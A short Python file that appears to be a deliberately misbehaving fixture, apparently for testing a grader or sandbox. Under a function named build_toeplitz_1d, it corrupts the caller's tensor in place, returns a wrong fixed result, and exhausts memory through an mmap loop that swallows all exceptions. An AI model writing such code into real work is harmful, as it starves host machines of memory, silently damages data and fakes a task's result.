"""Allocates all memory that it can get, and ignores every memory error."""

import mmap

import torch


def attempt(action):
    try:
        return action()
    except BaseException:
        return None


def wrong(kernel):
    with torch.no_grad():
        kernel.add_(1)
    return torch.arange(7, dtype=torch.float64)


kept = []


def build_toeplitz_1d(kernel, n):
    result = wrong(kernel)
    size = 256 << 20
    while size > 4096:
        one = attempt(lambda: mmap.mmap(-1, size))
        if one is None:
            size //= 2
        else:
            kept.append(one)
    return result
